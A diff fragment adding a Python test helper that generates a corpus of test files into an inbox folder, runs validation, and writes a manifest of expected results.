+    lines = []
+    for case in corpus.cases:
+        codes = ", ".join(case.codes) or "no issue"
+        lines.append(f"{case.file}\n    {case.status}: {codes}. {case.about}".rstrip())
+    return "\n".join(lines) + "\n"
+
+
+def write(corpus: Corpus, folder: Path) -> None:
+    """Each case's file (or each earlier file when there are no cases) in ``folder``.
+
+    Modes, ages and the growing writer are not applied: the files are for reading.
+    """
+    folder.mkdir(parents=True, exist_ok=True)
+    files = [(c.file, c.data) for c in corpus.cases] or list(corpus.earlier.items())
+    for name, data in files:
+        (folder / name).write_bytes(data)
+
+
+def main(argv: list[str]) -> int:
+    if len(argv) != 1:
+        print("usage: python -m tests.corpus OUTDIR", file=sys.stderr)
+        return 2
+    root = Path(argv[0])
+    space = make_workspace(root)
+    generate(space)
+    corpus = build(space)
+    write(Corpus([], corpus.earlier), space.inbox)
+    validate_inbox(space)  # the earlier run, which the duplicate repeats
+    write(corpus, space.inbox)
+    (root / "corpus.txt").write_text(manifest(corpus), encoding="utf-8")
+    print(f"{len(corpus.cases)} files in {space.inbox}; expected results in {root / 'corpus.txt'}")
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main(sys.argv[1:]))
